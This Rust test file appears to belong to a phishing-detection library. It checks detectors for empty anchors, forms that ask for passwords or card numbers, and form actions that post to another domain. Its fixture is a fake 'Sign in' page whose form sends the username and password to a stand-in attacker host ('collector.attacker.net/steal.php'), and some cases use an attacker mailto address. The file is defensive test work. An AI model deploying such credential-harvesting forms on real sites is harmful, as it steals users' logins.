//! Tests for the HTML DOM extractors.

use phishfeat::features::*;
use phishfeat::*;

const LOGIN_PAGE: &str = r##"
<html>
  <head><title>Sign in</title></head>
  <body>
    <a href="#">Help</a>
    <a href="/privacy">Privacy</a>
    <a href="https://www.example.com/terms">Terms</a>
    <a href="/about">About</a>
    <form method="post" action="https://collector.attacker.net/steal.php">
      <input type="text" name="username" placeholder="Username">
      <input type="password" name="password">
      <input type="submit" value="Sign in">
    </form>
  </body>
</html>
"##;

fn blacklist() -> Vec<String> {
    PiiKeywords::default().blacklist()
}

#[test]
fn test_nil_anchor_ratio_quarter() {
    let doc = HtmlDocument::parse(LOGIN_PAGE);
    assert_eq!(nil_anchor_ratio(&doc), 0.25);
}

#[test]
fn test_nil_anchor_ratio_no_anchors() {
    let doc = HtmlDocument::parse("<html><body><p>nothing here</p></body></html>");
    assert_eq!(nil_anchor_ratio(&doc), 0.0);
}

#[test]
fn test_has_bad_form() {
    let test_cases = vec![
        (r#"<form><input name="password"></form>"#, true),
        (r#"<form><input type="submit"></form>"#, false),
        (r#"<form><button>Go</button></form>"#, false),
        (r#"<form><input name="q" placeholder="Search"></form>"#, false),
        (r#"<form><input name="cc" placeholder="Card Number"></form>"#, true),
        (r#"<form></form><form><input id="ssn"></form>"#, true),
        (r#"<form><input name="passwd"></form>"#, true),
        (r#"<form><input placeholder="Emai"></form>"#, true),
        ("", false),
    ];

    for (html, expected) in test_cases {
        let doc = HtmlDocument::parse(html);
        assert_eq!(has_bad_form(&doc, &blacklist(), 85), expected, "has_bad_form for {}", html);
    }
}

#[test]
fn test_asks_for_pii_per_category() {
    let pii = PiiKeywords::default();
    let doc = HtmlDocument::parse(LOGIN_PAGE);
    let test_cases = vec![
        (PiiCategory::IdentityEmail, true),
        (PiiCategory::PasswordPin, true),
        (PiiCategory::Phone, false),
        (PiiCategory::Birthday, false),
        (PiiCategory::PaymentCard, false),
        (PiiCategory::GovernmentId, false),
    ];

    for (category, expected) in test_cases {
        assert_eq!(
            asks_for_pii(&doc, pii.category(category), 85),
            expected,
            "category {:?}",
            category
        );
    }
}

#[test]
fn test_fuzzy_only_keyword_hits() {
    let pii = PiiKeywords::default();
    let test_cases = vec![
        (r#"<form><input name="passwd"></form>"#, PiiCategory::PasswordPin, true),
        (r#"<form><input placeholder="Emai"></form>"#, PiiCategory::IdentityEmail, true),
        (r#"<form><input name="passwd"></form>"#, PiiCategory::Phone, false),
    ];

    for (html, category, expected) in test_cases {
        let doc = HtmlDocument::parse(html);
        assert_eq!(
            asks_for_pii(&doc, pii.category(category), 85),
            expected,
            "{:?} for {}",
            category,
            html
        );
    }
}

#[test]
fn test_synthetic_keyword_list() {
    let keywords = vec!["mother's maiden name".to_string()];
    let doc = HtmlDocument::parse(
        r#"<form><input placeholder="Mother's maiden name"></form>"#,
    );
    assert!(asks_for_pii(&doc, &keywords, 85));
    assert!(!asks_for_pii(&doc, &[], 85));
}

#[test]
fn test_bad_action_cross_domain() {
    let doc = HtmlDocument::parse(LOGIN_PAGE);
    assert!(bad_action(&doc, &normalize_url("https://www.example.com/login")));
}

#[test]
fn test_bad_action_compares_domain_labels() {
    let test_cases = vec![
        ("https://www.example.com/login", r#"<form action="/session"></form>"#, true),
        ("https://www.example.com/login", r#"<form action="session"></form>"#, true),
        ("https://www.example.com/login", r#"<form action="https://www.example.com/session"></form>"#, false),
        ("https://www.example.com/login", r#"<form action="//sso.example.com/"></form>"#, false),
        ("www.example.co.uk/login", r#"<form action="https://id.example.co.uk/"></form>"#, false),
        ("www.example.co.uk/login", r#"<form action="https://example.com/"></form>"#, false),
        ("www.example.co.uk/login", r#"<form action="https://other.co.uk/"></form>"#, true),
        ("https://www.example.com/", r#"<form action="mailto:me@example.com"></form>"#, false),
        ("https://www.example.com/", r#"<form action="mailto:me@attacker.net"></form>"#, true),
    ];

    for (url, html, expected) in test_cases {
        let doc = HtmlDocument::parse(html);
        assert_eq!(bad_action(&doc, &normalize_url(url)), expected, "{} / {}", url, html);
    }
}

#[test]
fn test_invalid_utf8_html() {
    let mut bytes = b"<form><input name=\"password\"></form><a href=\"#\">x</a>".to_vec();
    bytes.extend_from_slice(&[0xff, 0xfe]);
    let doc = HtmlDocument::from_bytes(&bytes);
    assert!(has_bad_form(&doc, &blacklist(), 85));
    assert_eq!(nil_anchor_ratio(&doc), 1.0);
}
